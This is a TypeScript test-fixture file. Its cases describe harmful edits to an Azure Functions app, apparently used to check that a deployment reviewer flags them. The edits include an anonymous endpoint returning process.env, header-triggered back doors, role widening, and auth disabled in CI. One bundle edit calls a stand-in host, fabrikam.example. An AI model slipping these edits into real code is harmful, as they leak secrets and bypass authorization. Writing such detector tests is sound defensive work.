import type { Case } from "./case.ts";

const guard = "functions/guard/guard.ts";
const whoCallsContract = "functions/contract.ts";
const allowWrite = 'allow: ["Orders.Write"],';

/** The contract, the handlers behind it, and the guard before them. */
export const functions: readonly Case[] = [
  {
    title: "an HTTP function beside the contract",
    class: "second HTTP function without guard",
    kind: "harmful",
    app: "who-calls",
    edits: [
      {
        file: "functions/src/index.ts",
        find: 'serve(contract, { "who-calls": whoCalls });',
        replace:
          'serve(contract, { "who-calls": whoCalls });\napp.http("export", { route: "export", authLevel: "anonymous", handler: () => ({ jsonBody: process.env }) });',
      },
      {
        file: "functions/src/index.ts",
        find: 'import { contract } from "../contract.ts";',
        replace: 'import { app } from "@azure/functions";\nimport { contract } from "../contract.ts";',
      },
    ],
    verdict: "not deployable",
    findings: [{ id: "deployment/refused", about: "" }],
    through: "engine",
  },
  {
    title: "an HTTP function beside the contract, and build and guard that let it be",
    class: "second HTTP function without guard",
    kind: "harmful",
    app: "who-calls",
    edits: [
      {
        file: "functions/src/index.ts",
        find: 'import { contract } from "../contract.ts";',
        replace: 'import { app } from "@azure/functions";\nimport { contract } from "../contract.ts";',
      },
      {
        file: "functions/src/index.ts",
        find: 'serve(contract, { "who-calls": whoCalls });',
        replace:
          'serve(contract, { "who-calls": whoCalls });\napp.http("export", { route: "export", authLevel: "anonymous", handler: () => ({ jsonBody: process.env }) });',
      },
      {
        file: "functions/build/demand-registrations.ts",
        find: ".filter(({ name }) => !isDeclared(name, contract))",
        replace: ".filter(() => false)",
      },
      {
        file: "functions/guard/default-deny.ts",
        find: 'options.trigger.type.toLowerCase() !== "httptrigger" ||',
        replace: 'functionName === "export" || options.trigger.type.toLowerCase() !== "httptrigger" ||',
      },
    ],
    verdict: ["opens", "weakens", "unknown"],
    findings: [
      { id: "file/build", about: "demand-registrations" },
      { id: "file/guard", about: "default-deny" },
    ],
    through: [],
  },
  {
    title: "people need no role",
    class: "role no longer required of people",
    kind: "harmful",
    app: "who-calls",
    edits: [
      {
        file: guard,
        find: "  demandOneOf(caller, allow);",
        replace: '  if (caller.kind === "application") demandOneOf(caller, allow);',
      },
    ],
    verdict: ["weakens", "opens"],
    findings: [{ id: ["endpoint/proof-lost", "file/guard"], about: /who-calls|guard/ }],
    through: "engine",
  },
  {
    title: "who knows a header is answered more",
    class: "handler back door by header",
    kind: "harmful",
    app: "who-calls",
    edits: [
      {
        file: "functions/src/who-calls.ts",
        find: "(_request, _context, caller) => ({",
        replace:
          '(request, _context, caller) => request.headers.get("x-diagnose") === "on" ? { jsonBody: process.env } : ({',
      },
    ],
    verdict: "to be read",
    findings: [],
    read: ["functions/src/who-calls.ts"],
    through: "engine",
  },
  {
    title: "who knows a header passes the guard",
    class: "guard back door by header",
    kind: "harmful",
    app: "who-calls",
    edits: [
      {
        file: guard,
        find: "  demandOneOf(caller, allow);",
        replace: '  if (request.headers.get("x-trace-id") !== "c0ffee") demandOneOf(caller, allow);',
      },
    ],
    verdict: "unknown",
    findings: [{ id: "file/guard", about: "guard.ts" }],
    through: "engine",
  },
  {
    title: "a scope counts as a role",
    class: "guard back door by header",
    kind: "harmful",
    app: "who-calls",
    edits: [
      {
        file: "functions/guard/roles-of.ts",
        find: "[principal.roleType, ...claimTypes.roles]",
        replace: '[principal.roleType, principal.nameType, ...claimTypes.roles, "scp"]',
      },
    ],
    verdict: "unknown",
    findings: [{ id: "file/guard", about: "roles-of.ts" }],
    through: [],
  },
  {
    title: "an endpoint without a token",
    class: "anonymous endpoint",
    kind: "harmful",
    app: "who-calls",
    edits: [
      {
        file: whoCallsContract,
        find: '    "who-calls": {',
        replace:
          '    version: { methods: ["GET"], route: "version", anonymous: "Says which version runs" },\n    "who-calls": {',
      },
      {
        file: "functions/src/index.ts",
        find: '{ "who-calls": whoCalls }',
        replace: '{ version: () => ({ jsonBody: process.env }), "who-calls": whoCalls }',
      },
    ],
    verdict: "opens",
    findings: [{ id: "endpoint/anonymous", about: "GET version" }],
    through: "engine",
  },
  {
    title: "who may read may write",
    class: "role added to allow",
    kind: "harmful",
    app: "orders",
    edits: [{ file: whoCallsContract, find: allowWrite, replace: 'allow: ["Orders.Write", "Orders.Read"],' }],
    verdict: "opens",
    findings: [{ id: "endpoint/role-added", about: "POST orders/{id}" }],
    through: "engine",
  },
  {
    title: "orders can be deleted",
    class: "method added",
    kind: "harmful",
    app: "orders",
    edits: [
      {
        file: whoCallsContract,
        find: 'methods: ["GET"], route: "orders"',
        replace: 'methods: ["GET", "DELETE"], route: "orders"',
      },
    ],
    verdict: "opens",
    findings: [{ id: "endpoint/new", about: "DELETE orders" }],
    through: [
      {
        observed: "snapshot.endpoints.+",
        to: { name: "DELETE orders", allow: ["Orders.Read"], isCalledUnasked: false },
      },
    ],
  },
  {
    title: "people may hold the role to write",
    class: "role opened to people",
    kind: "harmful",
    app: "orders",
    edits: [
      {
        file: whoCallsContract,
        find: 'displayName: "Write orders", members: ["Application"]',
        replace: 'displayName: "Write orders", members: ["Application", "User"]',
      },
    ],
    verdict: ["weakens", "opens"],
    findings: [{ id: "entitlement/holders-wider", about: /Orders\.Write|API/ }],
    through: [
      {
        resource: "azuread:index/application:Application api",
        path: "inputs.appRoles.1.allowedMemberTypes",
        to: ["Application", "User"],
      },
      { observed: "snapshot.registrations.the API.roles.Orders.Write.members", to: ["Application", "User"] },
    ],
  },
  {
    title: "a contract that says another thing in a pipeline",
    class: "contract that is no data",
    kind: "harmful",
    app: "who-calls",
    edits: [
      {
        file: whoCallsContract,
        find: 'allow: ["Function.Invoke"] }',
        replace:
          '...(process.env["CI"] === "true" ? { anonymous: "Load balancer" } : { allow: ["Function.Invoke"] }) }',
      },
    ],
    verdict: ["unknown", "opens", "weakens"],
    findings: [{ id: "file/contract", about: "functions/contract.ts" }],
    through: [],
  },
  {
    title: "in the pipeline nothing is required at the gate",
    class: "branch on ARM_USE_OIDC in infra",
    kind: "harmful",
    app: "who-calls",
    edits: [
      {
        file: "infra/hosting/authentication.ts",
        find: "requireAuthentication: true,",
        replace: 'requireAuthentication: process.env["ARM_USE_OIDC"] !== "true",',
      },
    ],
    verdict: "unknown",
    findings: [{ id: "file/declares", about: "infra/hosting/authentication.ts" }],
    through: "engine",
  },
  {
    title: "the bundle begins with somebody's code",
    class: "files that decide: build code",
    kind: "harmful",
    app: "who-calls",
    edits: [
      {
        file: "functions/build/bundle-code.ts",
        find: "pathToFileURL(__filename).href;` },",
        replace:
          'pathToFileURL(__filename).href;fetch("https://fabrikam.example/" + process.env.WEBSITE_HOSTNAME);` },',
      },
    ],
    verdict: "unknown",
    findings: [{ id: "file/build", about: "bundle-code.ts" }],
    through: [],
  },
  {
    title: "every package has the same name",
    class: "files that decide: build code",
    kind: "harmful",
    app: "who-calls",
    edits: [
      {
        file: "functions/build/content-hash.ts",
        find: 'return createHash("sha256").update(content).digest("hex");',
        replace: 'return createHash("sha256").update(content.slice(0, 1)).digest("hex");',
      },
    ],
    verdict: "unknown",
    findings: [{ id: "file/build", about: "content-hash.ts" }],
    through: [],
  },
  {
    title: "a handler that writes for everybody",
    class: "handler that does something else",
    kind: "harmful",
    app: "orders",
    edits: [{ file: "functions/src/write-order.ts", find: "by: caller.objectId", replace: 'by: "everybody"' }],
    verdict: "to be read",
    findings: [],
    read: ["functions/src/write-order.ts"],
    through: [],
  },
];
